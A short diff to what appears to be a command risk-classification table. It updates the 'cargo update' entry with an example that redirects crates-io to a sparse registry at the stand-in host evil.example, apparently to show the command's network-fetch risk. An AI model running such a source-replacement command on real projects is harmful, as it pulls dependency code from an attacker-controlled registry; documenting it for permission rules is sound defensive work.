@@ -112,7 +112,7 @@ extension CapabilityTables {
       = Bash(cargo tree)
       May call the configured compiler for target information
     cargo update | medium | network-fetch write-file
-      $ cargo update --config 'source.crates-io.replace-with="x"'
+      $ cargo update --config 'source.crates-io.replace-with="x"' --config 'source.x.registry="sparse+https://evil.example/"'
       = Bash(cargo update --dry-run)
       Changes the locked versions
     carthage | high | install-code execute
